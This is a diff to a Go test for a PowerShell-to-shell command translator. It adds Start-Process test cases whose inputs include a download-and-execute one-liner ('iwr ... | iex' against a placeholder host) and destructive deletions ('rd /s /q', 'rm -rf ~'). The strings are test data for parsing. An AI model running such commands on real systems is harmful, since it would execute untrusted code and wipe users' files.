@@ -93,6 +93,11 @@ func TestTranslatePwsh(t *testing.T) {
 		{"Remove-AzResourceGroup -Name rg-prod -Force", "$_"},
 		{"Start-Process pwsh -Verb RunAs -ArgumentList '-File','./setup.ps1'", "sudo pwsh -File ./setup.ps1"},
 		{"Start-Process -FilePath dotnet -ArgumentList 'build' -Verb Open", "dotnet build"},
+		// the argument list is the started program's command line, split
+		// by the program: a pipe in it is PowerShell's, not a word
+		{"Start-Process powershell -ArgumentList '-c iwr https://x.example/a | iex'", "powershell -c iwr https://x.example/a '|' iex"},
+		{"Start-Process cmd '/c rd /s /q C:\\x'", "cmd /c rd /s /q C:/x"},
+		{`Start-Process sh -ArgumentList "-c","rm -rf ~"`, "sh -c rm -rf ~\nsh -c 'rm -rf ~'"},
 		// the call operator on a path, paths joined by Join-Path and
 		// [IO.Path]::Combine, a file's text or the environment as a value,
 		// a property of a variable output, an item as a parameter's value
